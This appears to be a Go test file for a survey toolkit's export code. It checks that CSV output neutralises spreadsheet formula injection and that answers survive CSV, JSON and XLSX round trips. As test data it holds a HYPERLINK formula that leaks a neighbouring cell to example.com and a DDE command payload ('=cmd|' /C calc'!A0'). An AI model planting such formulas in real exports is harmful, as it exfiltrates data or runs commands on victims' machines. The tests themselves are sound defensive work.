package survey_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/healthtech-toolkit/toolkit/internal/survey"
)

// hyperlink is the answer a hostile respondent sends so that whoever opens
// the export in a spreadsheet sends the cell beside it away.
const hyperlink = `=HYPERLINK("http://example.com/?"&A1,"Click")`

// formulaCells are cells a spreadsheet would run, or not, and how the CSV
// export writes each.
var formulaCells = []struct{ cell, csv string }{
	{hyperlink, "'" + hyperlink},
	{"=1+1", "'=1+1"},
	{"+1+1", "'+1+1"},
	{"-1+1", "'-1+1"},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'\r=1+1"},
	{"  =1+1", "'  =1+1"},
	{"\n=1+1", "'\n=1+1"},
	{"-", "'-"},
	{"-Inf", "'-Inf"},
	{"-0x1p-2", "'-0x1p-2"},
	{"'=1+1", "''=1+1"}, // so that the import gives back '=1+1, not =1+1
	{"''+x", "'''+x"},
	// Numbers are numbers, and anything else starting otherwise is text.
	{"-0.25", "-0.25"},
	{"+1e-5", "+1e-5"},
	{"-12", "-12"},
	{"12", "12"},
	{"'quoted'", "'quoted'"},
	{"a=1+1", "a=1+1"},
	{"", ""},
}

// TestCSVNeutralisesFormulas checks that no cell of a CSV export is run as
// a formula when a spreadsheet opens it, and that every cell is quoted, so
// that a spreadsheet splitting cells on semicolons cannot find a formula
// part way through one.
func TestCSVNeutralisesFormulas(t *testing.T) {
	var cells, want []string
	for _, c := range formulaCells {
		cells = append(cells, c.cell)
		want = append(want, c.csv)
	}
	var buf bytes.Buffer
	tw, err := survey.NewTableWriter(&buf, "csv")
	if err != nil {
		t.Fatal(err)
	}
	if err := tw.Header([]string{"=cmd|' /C calc'!A0", "b"}); err != nil {
		t.Fatal(err)
	}
	if err := tw.Row(cells); err != nil {
		t.Fatal(err)
	}
	if err := tw.Row([]string{"a;=1+1", `say "hi"`}); err != nil {
		t.Fatal(err)
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	raw := buf.String()
	cr := csv.NewReader(strings.NewReader(raw))
	cr.FieldsPerRecord = -1
	got, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("reading the CSV back: %v\n%s", err, raw)
	}
	wantAll := [][]string{{"'=cmd|' /C calc'!A0", "b"}, want, {"a;=1+1", `say "hi"`}}
	if diff := cmp.Diff(wantAll, got); diff != "" {
		t.Errorf("CSV cells (-want +got):\n%s", diff)
	}
	if !strings.HasSuffix(raw, "\"a;=1+1\",\"say \"\"hi\"\"\"\n") {
		t.Errorf("the last row is not quoted cell by cell:\n%s", raw)
	}
}

// TestRestoreFormula checks that what NeutraliseFormula writes,
// RestoreFormula reads back as it was, and leaves alone what it did not
// write.
func TestRestoreFormula(t *testing.T) {
	for _, c := range formulaCells {
		if got := survey.NeutraliseFormula(c.cell); got != c.csv {
			t.Errorf("NeutraliseFormula(%q) = %q, want %q", c.cell, got, c.csv)
		}
		if got := survey.RestoreFormula(c.csv); got != c.cell {
			t.Errorf("RestoreFormula(%q) = %q, want %q", c.csv, got, c.cell)
		}
	}
	for _, cell := range []string{"'quoted'", "'", "'12", "'-12"} {
		if got := survey.RestoreFormula(cell); got != cell {
			t.Errorf("RestoreFormula(%q) = %q, want it unchanged", cell, got)
		}
	}
}

// FuzzNeutraliseFormula checks, for any cell, that the CSV cell does not
// start with what makes a formula unless it is a number, and that
// RestoreFormula gives the cell back.
func FuzzNeutraliseFormula(f *testing.F) {
	for _, c := range formulaCells {
		f.Add(c.cell)
	}
	f.Fuzz(func(t *testing.T, cell string) {
		out := survey.NeutraliseFormula(cell)
		if out != cell && out != "'"+cell {
			t.Fatalf("NeutraliseFormula(%q) = %q: neither the cell nor the cell behind a quote", cell, out)
		}
		if s := strings.TrimLeft(out, " \n"); s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
			if _, err := strconv.ParseFloat(s, 64); err != nil || strings.ContainsAny(s, "xXpPiInN_") {
				t.Fatalf("NeutraliseFormula(%q) = %q, which a spreadsheet runs", cell, out)
			}
		}
		if back := survey.RestoreFormula(out); back != cell {
			t.Fatalf("RestoreFormula(NeutraliseFormula(%q)) = %q", cell, back)
		}
	})
}

// TestExportImportRoundTrip checks that answers that look like formulas
// come back from `responses import` as they were exported, and that JSON
// and XLSX keep them as they are.
func TestExportImportRoundTrip(t *testing.T) {
	d := mustCompile(t, testForm)
	answers := []survey.Answers{
		{"working": "no", "help": "other", "help_other": hyperlink, "score": "-2.5", "story": "=1+1", "ok": "OK"},
		{"working": "no", "help": "other", "help_other": "'=1+1", "score": "-0.25", "story": "@me", "ok": "OK"},
		{"working": "no", "help": "other", "help_other": "-see above", "story": "+44 20 7946 0000", "ok": "OK"},
	}
	cols := d.ResponseColumns(survey.TableOptions{})
	export := func(format string) []byte {
		var buf bytes.Buffer
		tw, err := survey.NewTableWriter(&buf, format)
		if err != nil {
			t.Fatal(err)
		}
		if err := tw.Header(cols); err != nil {
			t.Fatal(err)
		}
		for i, a := range answers {
			r := survey.Response{ID: strconv.Itoa(i), Version: 1, Phase: survey.Live, Channel: survey.UnknownChannel,
				Language: "en", SubmittedOn: time.Date(2026, 11, 23, 0, 0, 0, 0, time.UTC), Answers: a}
			if err := tw.Row(d.ResponseRow(r, cols)); err != nil {
				t.Fatal(err)
			}
		}
		if err := tw.Close(); err != nil {
			t.Fatal(err)
		}
		return buf.Bytes()
	}

	t.Run("csv", func(t *testing.T) {
		rows, err := csv.NewReader(bytes.NewReader(export("csv"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if i := slices.Index(rows[0], "help_other"); rows[1][i] != "'"+hyperlink {
			t.Errorf("help_other in the CSV = %q, want it behind a quote", rows[1][i])
		}
		got, _, err := d.ReadResponses(rows[0], rows[1:], survey.ImportDefaults{Version: 1, Phase: survey.Pilot, Language: "en"})
		if err != nil {
			t.Fatal(err)
		}
		for i, r := range got {
			if diff := cmp.Diff(answers[i], r.Answers); diff != "" {
				t.Errorf("response %d imported (-exported +imported):\n%s", i, diff)
			}
		}
	})
	t.Run("json", func(t *testing.T) {
		var got []map[string]string
		if err := json.Unmarshal(export("json"), &got); err != nil {
			t.Fatal(err)
		}
		for i, obj := range got {
			for q, a := range answers[i] {
				if obj[q] != a {
					t.Errorf("response %d, %s in JSON = %q, want %q", i, q, obj[q], a)
				}
			}
		}
	})
	t.Run("xlsx", func(t *testing.T) {
		b := export("xlsx")
		// Excel runs only a cell's formula (<f>); a string cell is shown
		// as it is.
		for _, c := range xlsxCells(t, b) {
			if c.Formula != nil || c.Type != "inlineStr" {
				t.Errorf("XLSX cell %s is written with type %q and formula %v, want a string and no formula", c.Ref, c.Type, c.Formula)
			}
		}
		wb, err := survey.ReadXLSX(bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		s := wb.Sheet("responses")
		if got := s.Rows[0].Cells[slices.Index(s.Columns, "help_other")]; got != hyperlink {
			t.Errorf("help_other in the XLSX = %q, want %q", got, hyperlink)
		}
	})
}

// xlsxCell is a cell of a worksheet's XML.
type xlsxCell struct {
	Ref     string    `xml:"r,attr"`
	Type    string    `xml:"t,attr"`
	Formula *struct{} `xml:"f"`
}

// xlsxCells reads every cell of every worksheet of an XLSX file.
func xlsxCells(t *testing.T, b []byte) []xlsxCell {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	var cells []xlsxCell
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") || !strings.HasSuffix(f.Name, ".xml") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		var sheet struct {
			Rows []struct {
				Cells []xlsxCell `xml:"c"`
			} `xml:"sheetData>row"`
		}
		err = xml.NewDecoder(rc).Decode(&sheet)
		rc.Close()
		if err != nil && err != io.EOF {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, r := range sheet.Rows {
			cells = append(cells, r.Cells...)
		}
	}
	if len(cells) == 0 {
		t.Fatal("the XLSX file has no cells")
	}
	return cells
}
